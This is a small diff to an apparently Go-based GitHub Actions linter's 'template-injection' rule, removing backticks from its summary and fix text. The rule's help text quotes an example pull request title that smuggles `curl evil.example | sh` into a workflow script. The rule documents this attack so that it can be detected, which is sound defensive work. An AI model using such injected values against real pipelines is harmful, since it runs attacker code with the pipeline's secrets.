@@ -10,8 +10,8 @@ import (
 var templateInjectionRule = finding.Rule{
 	ID:       "template-injection",
 	Severity: finding.SeverityHigh,
-	Summary:  "An attacker-controllable `${{ }}` expression (pull request title, branch name, issue or comment body, commit message, ...) is expanded inside `run:` or an actions/github-script `script:`.",
-	Fix:      "Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) and use `\"$TITLE\"` in the script.",
+	Summary:  "An attacker-controllable ${{ }} expression (pull request title, branch name, issue or comment body, commit message, ...) is expanded inside run: or an actions/github-script script:.",
+	Fix:      "Pass the value through an environment variable (env: TITLE: ${{ github.event.pull_request.title }}) and use \"$TITLE\" in the script.",
 	Help: "`${{ }}` is substituted into the script text before the shell or JavaScript runs, so a pull request titled " +
 		"`a\"; curl evil.example | sh; \"` runs the attacker's command with the job's token and secrets (Ultralytics 2024, Nx 2025). " +
 		"An environment variable is passed as data and never parsed as code. The list of attacker-controllable contexts is actionlint's, " +
